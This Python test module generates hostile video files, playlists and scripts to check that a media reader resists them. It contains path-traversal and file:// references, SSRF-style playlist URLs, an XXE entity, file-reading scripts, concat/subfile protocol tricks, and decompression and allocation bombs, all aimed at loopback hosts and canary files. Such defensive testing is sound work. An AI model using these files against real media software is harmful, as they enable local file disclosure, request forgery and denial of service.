"""Files that want to be more than a video: they point elsewhere, pretend, or ask for all memory there is.

Each maker returns bytes; `{port}` in texts is a loopback server's, and `canary` a folder of files that nobody
may open. What each file would do is what FFmpeg, OpenCV or a player has done with such a file some time.
"""

import struct
import zlib
from collections.abc import Sequence
from pathlib import Path
from typing import Any

import av
import cv2
import numpy as np

from tests.helpers.videos import write_numbered_av, write_numbered_video

CANARIES = ("canary.avi", "canary.mp4", "canary.ts", "canary.txt", "canary.srt", "img_00.jpg", "img_01.jpg")
# first word of a text's name -> the extension by which programs know it
SUFFIXES = {
    "m3u8": ".m3u8", "ffconcat": ".ffconcat", "dash": ".mpd", "imf": ".xml", "xxe": ".xml", "sdp": ".sdp",
    "asx": ".asx", "pls": ".pls", "xspf": ".xspf", "smil": ".smil", "svg": ".svg", "avisynth": ".avs",
    "vapoursynth": ".vpy", "subtitles": ".srt", "webvtt": ".vtt", "ass": ".ass", "vobsub": ".idx",
    "ffmetadata": ".ffmeta", "tty": ".txt", "cue": ".cue", "internet": ".url",
}  # fmt: skip
# Videos in themselves, which may be read as long as what they refer to is left alone.
WHOLE = frozenset({"dref-url-web", "dref-url-file", "dref-urn", "mkv-next-segment", "stts-billions"})
BESIDE = "beside.bin"  # a video without a video's extension, in the folder of the hostile files


def make_canaries(folder: Path) -> Path:
    """Real files that are read if anything reads them."""
    folder.mkdir(parents=True)
    write_numbered_video(folder / "canary.avi", 4)
    times = [40 * number for number in range(4)]
    for suffix in ("mp4", "ts"):
        write_numbered_av(folder / f"canary.{suffix}", times, codec="libx264")
    (folder / "canary.txt").write_text("secret\n" * 40)
    (folder / "canary.srt").write_text("1\n00:00:00,000 --> 00:00:01,000\nsecret\n")
    for number in range(2):
        cv2.imwrite(str(folder / f"img_{number:02d}.jpg"), np.full((16, 16, 3), 99, np.uint8))
    return folder


def texts(canary: Path, port: int) -> dict[str, str]:
    """Lists, playlists and scripts that name other files or hosts."""
    web = f"http://127.0.0.1:{port}"
    near, far = "../../../canary", str(canary)
    m3u8 = (
        "#EXTM3U\n#EXT-X-TARGETDURATION:1\n#EXT-X-MEDIA-SEQUENCE:0\n{key}#EXTINF:1,\n{uri}\n#EXT-X-ENDLIST\n"
    )
    dash = (
        '<?xml version="1.0"?><MPD xmlns="urn:mpeg:dash:schema:mpd:2011" type="static" '
        'mediaPresentationDuration="PT1S" profiles="urn:mpeg:dash:profile:isoff-main:2011">'
        "<Period>"
        '<AdaptationSet mimeType="video/mp4"><Representation id="1" bandwidth="1" width="64" height="48">'
        "<BaseURL>{uri}</BaseURL></Representation></AdaptationSet></Period></MPD>"
    )
    cpl = (
        '<?xml version="1.0"?><CompositionPlaylist xmlns="http://www.smpte-ra.org/schemas/2067-3/2016">'
        "<Id>urn:uuid:00000000-0000-0000-0000-000000000001</Id><EditRate>25 1</EditRate><SegmentList>"
        "<Segment><SequenceList><MainImageSequence><ResourceList><Resource><TrackFileId>{uri}</TrackFileId></Resource>"
        "</ResourceList></MainImageSequence></SequenceList></Segment></SegmentList></CompositionPlaylist>"
    )
    sdp = (
        "v=0\no=- 0 0 IN IP4 127.0.0.1\ns=x\nc=IN IP4 127.0.0.1\nt=0 0\n"
        f"m=video {port} RTP/AVP 96\na=rtpmap:96 H264/90000\n"
    )
    return {
        "ffconcat-beside": f"ffconcat version 1.0\nfile {BESIDE}\n",
        "ffconcat-far": f"ffconcat version 1.0\nfile '{far}/canary.avi'\n",
        "ffconcat-near": f"ffconcat version 1.0\nfile '{near}/canary.avi'\n",
        "ffconcat-web": f"ffconcat version 1.0\nfile '{web}/a.mp4'\n",
        "m3u8-near": m3u8.format(key="", uri=f"{near}/canary.ts"),
        "m3u8-far": m3u8.format(key="", uri=f"{far}/canary.ts"),
        "m3u8-file": m3u8.format(key="", uri=f"file://{far}/canary.ts"),
        "m3u8-text": m3u8.format(key="", uri=f"{far}/canary.txt"),
        "m3u8-beside": m3u8.format(key="", uri=BESIDE),
        "m3u8-web": m3u8.format(key="", uri=f"{web}/a.ts"),
        "m3u8-concat": m3u8.format(key="", uri=f"concat:{web}/head|file://{far}/canary.txt"),
        "m3u8-subfile": m3u8.format(key="", uri=f"subfile,,start,0,end,9,,:{far}/canary.txt"),
        "m3u8-data": m3u8.format(key="", uri="data:video/mp2t;base64,R0AAEA=="),
        "m3u8-key": m3u8.format(key=f'#EXT-X-KEY:METHOD=AES-128,URI="{web}/key"\n', uri=f"{far}/canary.ts"),
        "m3u8-map": m3u8.format(key=f'#EXT-X-MAP:URI="{web}/init.mp4"\n', uri=f"{far}/canary.mp4"),
        "m3u8-master": f"#EXTM3U\n#EXT-X-STREAM-INF:BANDWIDTH=1\n{web}/list.m3u8\n",
        "dash-web": dash.format(uri=f"{web}/a.mp4"),
        "dash-file": dash.format(uri=f"{far}/canary.mp4"),
        "dash-xlink": dash.format(uri="a.mp4").replace("<Period>", f'<Period xlink:href="{web}/period">'),
        "imf-cpl": cpl.format(uri=f"{far}/canary.mp4"),
        "sdp": sdp,
        "rtsp-text": f"RTSPtext\nrtsp://127.0.0.1:{port}/stream\n",
        "asx": f'<asx version="3.0"><entry><ref href="{web}/a.wmv"/></entry></asx>',
        "asf-reference": f"[Reference]\nRef1={web}/a.asf\nRef2={far}/canary.avi\n",
        "pls": f"[playlist]\nFile1={web}/a.mp4\nNumberOfEntries=1\n",
        "xspf": f"<playlist><trackList><track><location>{web}/a.mp4</location></track></trackList>",
        "smil": f'<smil><body><video src="{web}/a.mp4"/></body></smil>',
        "svg": f'<svg xmlns="http://www.w3.org/2000/svg"><image href="{web}/a.png"/>'
        f'<image href="{far}/img_00.jpg"/></svg>',
        "xxe": f'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "{web}/dtd">]><MPD>&e;</MPD>',
        "avisynth": f'AviSource("{far}/canary.avi")\n',
        "vapoursynth": f'import vapoursynth as vs\nopen("{far}/canary.txt").read()\n',
        "lavfi": f"movie={far}/canary.avi\n",
        "subtitles": "1\n00:00:00,000 --> 00:00:01,000\n<img src='" + web + "/a.png'>\n",
        "webvtt": "WEBVTT\n\n00:00.000 --> 00:01.000\ntext\n",
        "ass": "[Script Info]\nScriptType: v4.00+\n\n[Events]\nDialogue: 0,0:00:00.00,0:00:01.00,,,0,0,0,,\n",
        "vobsub-index": "# VobSub index file, v7 (do not modify this line!)\nsize: 16x16\n",
        "ffmetadata": ";FFMETADATA1\ntitle=x\n",
        "tty": "\x1b[31mtext art that FFmpeg draws as video\n" * 50,
        "cue": f'FILE "{far}/canary.avi" WAVE\n  TRACK 01 AUDIO\n    INDEX 01 00:00:00\n',
        "internet-shortcut": f"[InternetShortcut]\nURL={web}/a.mp4\n",
    }


def atom(kind: bytes, *parts: bytes) -> bytes:
    """One atom of an MP4 file."""
    body = b"".join(parts)
    return struct.pack(">I", 8 + len(body)) + kind + body


def replace_atom(content: bytes, path: Sequence[bytes], new: bytes) -> bytes:
    """Replaces the first atom at a path such as moov, trak, mdia; the atoms around it are given its length.

    The media data must lie before `moov`, as FFmpeg writes it: offsets into it then stay right.
    """
    offset = 0
    while offset + 8 <= len(content):
        size, kind = struct.unpack(">I4s", content[offset : offset + 8])
        if kind == path[0]:
            inner = content[offset + 8 : offset + size]
            made = new if len(path) == 1 else atom(kind, replace_atom(inner, path[1:], new))
            return content[:offset] + made + content[offset + size :]
        offset += max(size, 8)
    raise ValueError(f"no atom {path[0]!r}")


STBL = (b"moov", b"trak", b"mdia", b"minf", b"stbl")
DREF = (b"moov", b"trak", b"mdia", b"minf", b"dinf", b"dref")


def _external_reference(content: bytes, kind: bytes, data: bytes) -> bytes:
    entry = atom(kind, b"\0\0\0\0", data)  # flags 0: the data is not in this file
    return replace_atom(content, DREF, atom(b"dref", bytes(4), struct.pack(">I", 1), entry))


def _alias(path: str, name: str) -> bytes:
    """A QuickTime alias record with an absolute path."""
    encoded = path.encode()
    record = bytes(10) + bytes([4]) + b"disk".ljust(27, b"\0") + bytes(12)
    record += bytes([len(name)]) + name.encode().ljust(63, b"\0") + bytes(16)
    record += struct.pack(">hh", 1, 1) + bytes(16)
    record += struct.pack(">hH", 2, len(encoded)) + encoded + b"\0" * (len(encoded) % 2)
    return record + struct.pack(">hH", -1, 0)


def references(folder: Path, canary: Path, port: int) -> dict[str, bytes]:
    """Containers that hold a reference to another file or host."""
    plain = write_numbered_av(folder / "plain.mp4", [40 * i for i in range(8)], codec="libx264").read_bytes()
    web, far = f"http://127.0.0.1:{port}/a.mp4", str(canary / "canary.mp4")
    redirect = atom(b"rdrf", bytes(4), b"url ", struct.pack(">I", len(web) + 1), web.encode() + b"\0")
    playlist = texts(canary, port)["m3u8-web"]
    jpeg = cv2.imencode(".jpg", np.full((16, 16, 3), 99, np.uint8))[1].tobytes()
    return {
        "dref-url-web": _external_reference(plain, b"url ", web.encode() + b"\0"),
        "dref-url-file": _external_reference(plain, b"url ", f"file://{far}".encode() + b"\0"),
        "dref-urn": _external_reference(plain, b"urn ", b"x\0" + far.encode() + b"\0"),
        "dref-alias": _external_reference(plain, b"alis", _alias(far, "canary.mp4")),
        "reference-movie": atom(b"ftyp", b"qt  ", bytes(4))
        + atom(b"moov", atom(b"rmra", atom(b"rmda", redirect))),
        "avi-subtitle-playlist": _avi_with_subtitle(jpeg, playlist.encode()),
        "mkv-next-segment": _mkv_with_links(jpeg, far),
    }


def _chunk(kind: bytes, *parts: bytes) -> bytes:
    body = b"".join(parts)
    return kind + struct.pack("<I", len(body)) + body + b"\0" * (len(body) % 2)


def _avi_with_subtitle(jpeg: bytes, subtitle: bytes, *, size: tuple[int, int] = (16, 16)) -> bytes:
    """An AVI of one MJPEG frame; with a subtitle FFmpeg opens its text by guessing the format (GAB2)."""
    width, height = size
    main = struct.pack("<14I", 40000, 0, 0, 0, 1, 0, 2 if subtitle else 1, 0, width, height, 0, 0, 0, 0)
    stream = struct.pack(
        "<4s4sIHHIIIIIIII4H", b"vids", b"MJPG", 0, 0, 0, 0, 1, 25, 0, 1, 0, 0, 0, 0, 0, width, height
    )
    picture = struct.pack("<IiiHH4sIiiII", 40, width, height, 1, 24, b"MJPG", 0, 0, 0, 0, 0)
    header = _chunk(b"avih", main) + _chunk(
        b"LIST", b"strl", _chunk(b"strh", stream), _chunk(b"strf", picture)
    )
    frames = _chunk(b"00dc", jpeg)
    if subtitle:
        text = struct.pack(
            "<4s4sIHHIIIIIIII4H", b"txts", bytes(4), 0, 0, 0, 0, 1, 1, 0, 1, 0, 0, 0, 0, 0, 0, 0
        )
        header += _chunk(b"LIST", b"strl", _chunk(b"strh", text), _chunk(b"strf", b""))
        gab2 = b"GAB2\0" + struct.pack("<HI", 2, 2) + b"a\0" + struct.pack("<HI", 4, len(subtitle)) + subtitle
        frames = _chunk(b"01tx", gab2) + frames
    return _chunk(b"RIFF", b"AVI ", _chunk(b"LIST", b"hdrl", header), _chunk(b"LIST", b"movi", frames))


def _element(code: str, *parts: bytes) -> bytes:
    """One element of a Matroska file."""
    body = b"".join(parts)
    return bytes.fromhex(code) + struct.pack(">Q", len(body) | 1 << 56) + body


def _mkv_with_links(jpeg: bytes, far: str) -> bytes:
    """A Matroska file whose header names files before and after it, another segment, and a font."""
    head = _element(
        "1A45DFA3", _element("4282", b"matroska"), _element("4287", b"\4"), _element("4285", b"\2")
    )
    name = far.encode()
    info = _element(
        "1549A966", _element("2AD7B1", b"\x0f\x42\x40"), _element("3E83BB", name), _element("3C83AB", name),
        _element("3EB923", bytes(range(16))), _element("4D80", b"x"), _element("5741", b"x"),
    )  # fmt: skip
    picture = _element("E0", _element("B0", b"\x10"), _element("BA", b"\x10"))
    track = _element(
        "AE", _element("D7", b"\1"), _element("73C5", b"\1"), _element("83", b"\1"),
        _element("86", b"V_MJPEG"), picture,
    )  # fmt: skip
    chapter = _element(
        "B6", _element("73C4", b"\1"), _element("91", b"\0"), _element("6E67", bytes(range(16)))
    )
    chapters = _element("1043A770", _element("45B9", _element("45DD", b"\1"), chapter))
    attachments = _element(
        "1941A469",
        _element("61A7", _element("466E", name), _element("4660", b"font/ttf"), _element("465C", b"x")),
    )
    cluster = _element("1F43B675", _element("E7", b"\0"), _element("A3", b"\x81\0\0\x80" + jpeg))
    body = info + _element("1654AE6B", track) + chapters + attachments + cluster
    return head + _element("18538067", body)


def bombs(folder: Path) -> dict[str, bytes]:
    """Small files that ask for much memory or time."""
    plain = write_numbered_av(folder / "small.mp4", [40 * i for i in range(8)], codec="libx264").read_bytes()
    huge = 2**31 - 1
    zlib_bomb = zlib.compress(bytes(64 << 20), 9)
    compressed = atom(b"cmov", atom(b"dcom", b"zlib"), atom(b"cmvd", struct.pack(">I", huge), zlib_bomb))
    honest = atom(b"cmov", atom(b"dcom", b"zlib"), atom(b"cmvd", struct.pack(">I", 64 << 20), zlib_bomb))
    nested = b""
    for _ in range(20_000):
        nested = atom(b"moov", nested)
    jpeg = cv2.imencode(".jpg", np.full((16, 16, 3), 99, np.uint8))[1].tobytes()
    start = jpeg.index(b"\xff\xc0")
    wide = jpeg[: start + 5] + struct.pack(">HH", 65535, 65535) + jpeg[start + 9 :]
    list_in_list = b""
    for _ in range(5_000):
        list_in_list = _chunk(b"LIST", b"movi", list_in_list)
    lists = _chunk(b"RIFF", b"AVI ", list_in_list)
    ftyp = atom(b"ftyp", b"isom", bytes(4))
    gif = b"GIF89a" + struct.pack("<HH", 65535, 65535) + b"\x80\0\0" + bytes(6) + b"\x2c" + bytes(4)
    gif += struct.pack("<HH", 65535, 65535) + b"\0\2\2\x44\1\0\x3b"
    tables = {
        "stts-billions": (b"stts", bytes(4) + struct.pack(">III", 1, huge, 1)),
        "stts-entries": (b"stts", bytes(4) + struct.pack(">I", huge)),
        "stsz-billions": (b"stsz", bytes(4) + struct.pack(">II", 1, huge)),
        "stsz-entries": (b"stsz", bytes(4) + struct.pack(">II", 0, huge)),
        "stsc-billions": (b"stsc", bytes(4) + struct.pack(">IIII", 1, 1, huge, 1)),
        "ctts-entries": (b"ctts", bytes(4) + struct.pack(">I", huge)),
        "stss-entries": (b"stss", bytes(4) + struct.pack(">I", huge)),
        "stco-entries": (b"stco", bytes(4) + struct.pack(">I", huge)),
    }
    made = {
        "cmov-claims-2-gib": ftyp + atom(b"moov", compressed),
        "cmov-zeros": ftyp + atom(b"moov", honest),
        "nested-atoms": ftyp + nested,
        "nested-lists": lists,
        "jpeg-65535": _avi_with_subtitle(wide, b"", size=(65535, 65535)),
        "jpeg-65535-under-16": _avi_with_subtitle(wide, b""),
        "gif-65535": gif,
        "h264-8192": write_large(folder / "large.mp4", 8192).read_bytes(),
    }
    for name, (kind, body) in tables.items():
        present = (*STBL, kind) if kind in plain else (*STBL, b"stts")
        made[name] = replace_atom(plain, present, atom(kind, body))
    return made


def slow_bombs(folder: Path) -> dict[str, bytes]:
    """Small files that keep a reader at work for hours: only a limit of time or memory ends them."""
    plain = write_numbered_av(folder / "quick.mp4", [40 * i for i in range(8)], codec="libx264").read_bytes()
    count = 60_000_000
    made = replace_atom(plain, (*STBL, b"stsz"), atom(b"stsz", bytes(4), struct.pack(">II", 1, count)))
    made = replace_atom(made, (*STBL, b"stts"), atom(b"stts", bytes(4), struct.pack(">III", 1, count, 1)))
    return {
        "sixty-million-samples": replace_atom(
            made, (*STBL, b"stsc"), atom(b"stsc", bytes(4), struct.pack(">IIII", 1, 1, count, 1))
        )
    }


def write_large(path: Path, side: int) -> Path:
    """A small H.264 file of two large black frames."""
    with av.open(str(path), "w") as container:
        stream: Any = container.add_stream(
            "libx264", rate=25, options={"preset": "ultrafast", "threads": "1"}
        )
        stream.width = stream.height = side
        stream.pix_fmt = "yuv420p"
        for number in range(2):
            frame = av.VideoFrame(side, side, "yuv420p")
            for plane in frame.planes:
                plane.update(bytes(plane.buffer_size))
            frame.pts = number
            container.mux(stream.encode(frame))
        container.mux(stream.encode(None))
    return path
